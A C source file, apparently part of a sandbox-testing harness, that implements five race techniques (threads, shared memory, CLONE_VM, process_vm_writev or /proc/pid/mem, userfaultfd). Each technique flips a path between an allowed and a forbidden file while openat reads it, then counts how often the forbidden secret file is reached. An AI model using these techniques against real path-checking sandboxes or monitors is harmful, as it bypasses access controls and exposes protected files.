// SPDX-License-Identifier: Apache-2.0
/*
 * Path arguments that change while the kernel, or whoever looks on, reads
 * them. Every technique opens N times while the name flips between GOOD and
 * BAD, and prints attempts, successes, and how many reached BAD.
 */
#define _GNU_SOURCE
#include "victim.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define PATH_ROOM 4096

static const char *good, *bad;
static char *name; /* the flipping buffer */
static size_t from, room; /* the bytes in which good and bad differ */

/*
 * Only the bytes that differ are written: a long copy would mostly be seen
 * torn, and a torn name opens nothing.
 */
static void flip_forever(void)
{
	for (;;) {
		memcpy(name + from, bad + from, room - from);
		moved();
		for (volatile int i = 0; i < 60; i++)
			;
		memcpy(name + from, good + from, room - from);
		for (volatile int i = 0; i < 60; i++)
			;
	}
}

static void prepare(char *good_path, char *bad_path, char *buf)
{
	size_t g = strlen(good_path), b = strlen(bad_path);

	room = (g > b ? g : b) + 1;
	if (room > PATH_ROOM)
		exit(64);
	char *a = calloc(1, PATH_ROOM), *c = calloc(1, PATH_ROOM);

	good = strcpy(a, good_path);
	bad = strcpy(c, bad_path);
	while (from < g && from < b && good[from] == bad[from])
		from++;
	name = buf;
	memcpy(name, good, room);
}

static int attempt(long n)
{
	long i, opened = 0, reached = 0;

	for (i = 0; under_way(i, n); i++) {
		int fd = openat(AT_FDCWD, name, O_RDONLY);

		if (fd < 0)
			continue;
		opened++;
		reached += holds_secret(fd);
		close(fd);
	}
	printf("attempts=%ld opened=%ld reached=%ld\n", i, opened, reached);
	fflush(stdout);
	return 0;
}

static void *flipping_thread(void *arg)
{
	(void)arg;
	flip_forever();
	return NULL;
}

static int run_thread(int argc, char **argv)
{
	if (argc < 4)
		return 64;
	prepare(argv[2], argv[3], malloc(PATH_ROOM));
	contested();
	spawn_thread(flipping_thread, NULL);
	return attempt(number(argv[1]));
}

static char *shared_page(void)
{
	char *m = mmap(NULL, PATH_ROOM, PROT_READ | PROT_WRITE,
		       MAP_SHARED | MAP_ANONYMOUS, -1, 0);

	if (m == MAP_FAILED)
		die("mmap");
	return m;
}

static int finish(pid_t peer, long n)
{
	int ret = attempt(n);

	kill(peer, SIGKILL);
	waitpid(peer, NULL, __WALL);
	return ret;
}

/* The page is shared with a process of its own. */
static int run_shared(int argc, char **argv)
{
	pid_t peer;

	if (argc < 4)
		return 64;
	prepare(argv[2], argv[3], shared_page());
	contested();
	peer = fork();
	if (peer < 0)
		die("fork");
	if (!peer)
		flip_forever();
	return finish(peer, number(argv[1]));
}

static int clone_body(void *arg)
{
	(void)arg;
	flip_forever();
	return 0;
}

/* A process that shares the memory but not the thread group. */
static int run_clone_vm(int argc, char **argv)
{
	static char stack[65536] __attribute__((aligned(16)));
	pid_t peer;

	if (argc < 4)
		return 64;
	prepare(argv[2], argv[3], malloc(PATH_ROOM));
	contested();
	peer = clone(clone_body, stack + sizeof(stack), CLONE_VM | SIGCHLD, NULL);
	if (peer < 0)
		die("clone");
	return finish(peer, number(argv[1]));
}

static int unbegun[2]; /* a pipe that the other side closes at its first move */

static void begun(void)
{
	if (unbegun[1] >= 0)
		close(unbegun[1]);
	unbegun[1] = -1;
}

static void vm_write_forever(pid_t target)
{
	struct iovec local = { .iov_len = room }, remote = { name, room };

	for (;;) {
		local.iov_base = (void *)bad;
		ssize_t n = process_vm_writev(target, &local, 1, &remote, 1, 0);

		begun();
		if (n < 0)
			die("process_vm_writev");
		local.iov_base = (void *)good;
		if (process_vm_writev(target, &local, 1, &remote, 1, 0) < 0)
			die("process_vm_writev");
	}
}

static void mem_write_forever(pid_t target)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/mem", target);
	fd = open(path, O_RDWR);
	if (fd < 0)
		die("open mem");
	for (;;) {
		ssize_t n = pwrite(fd, bad, room, (off_t)(uintptr_t)name);

		begun();
		if (n < 0)
			die("pwrite mem");
		pwrite(fd, good, room, (off_t)(uintptr_t)name);
	}
}

/* A sibling writes into the memory of the one that opens. */
static int run_remote(int argc, char **argv)
{
	pid_t self = getpid(), peer;
	char c;

	if (argc < 5)
		return 64;
	prepare(argv[3], argv[4], malloc(PATH_ROOM));
	prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY);
	if (pipe(unbegun))
		die("pipe");
	peer = fork();
	if (peer < 0)
		die("fork");
	if (!peer) {
		if (!strcmp(argv[1], "vm"))
			vm_write_forever(self);
		else
			mem_write_forever(self);
	}
	close(unbegun[1]);
	if (read(unbegun[0], &c, 1)) /* until it is closed, or the peer dead */
		die("read pipe");
	return finish(peer, number(argv[2]));
}

static int uffd;

/* Answers each fault on the page with good first, then with bad. */
static void *serve_faults(void *arg)
{
	char *page = aligned_alloc(4096, 4096);
	long turn = 0;

	(void)arg;
	for (;;) {
		struct uffd_msg m;
		struct uffdio_copy c = { .dst = (uintptr_t)name,
					 .src = (uintptr_t)page,
					 .len = 4096 };

		if (read(uffd, &m, sizeof(m)) != sizeof(m))
			continue;
		memset(page, 0, 4096);
		strcpy(page, turn++ % 2 ? bad : good);
		ioctl(uffd, UFFDIO_COPY, &c);
	}
	return NULL;
}

/* The page of the path is filled at the moment it is read, each time anew. */
static int run_userfault(int argc, char **argv)
{
	struct uffdio_api api = { .api = UFFD_API };
	struct uffdio_register reg = { .mode = UFFDIO_REGISTER_MODE_MISSING };
	long n, opened = 0, reached = 0;
	char *page;

	if (argc < 4)
		return 64;
	uffd = (int)syscall(SYS_userfaultfd, O_CLOEXEC);
	if (uffd < 0)
		die("userfaultfd");
	page = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
		    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	prepare(argv[2], argv[3], page);
	reg.range.start = (uintptr_t)page;
	reg.range.len = 4096;
	if (ioctl(uffd, UFFDIO_API, &api) || ioctl(uffd, UFFDIO_REGISTER, &reg))
		die("uffdio");
	spawn_thread(serve_faults, NULL);
	n = number(argv[1]);
	for (long i = 0; i < n; i++) {
		int fd;

		madvise(page, 4096, MADV_DONTNEED);
		fd = openat(AT_FDCWD, page, O_RDONLY);
		if (fd < 0)
			continue;
		opened++;
		reached += holds_secret(fd);
		close(fd);
	}
	printf("attempts=%ld opened=%ld reached=%ld\n", n, opened, reached);
	return 0;
}

const struct technique flip_techniques[] = {
	{ "flip-thread", run_thread, "N GOOD BAD" },
	{ "flip-shared", run_shared, "N GOOD BAD" },
	{ "flip-clone-vm", run_clone_vm, "N GOOD BAD" },
	{ "flip-remote", run_remote, "vm|mem N GOOD BAD" },
	{ "flip-userfault", run_userfault, "N GOOD BAD" },
	{ 0 },
};
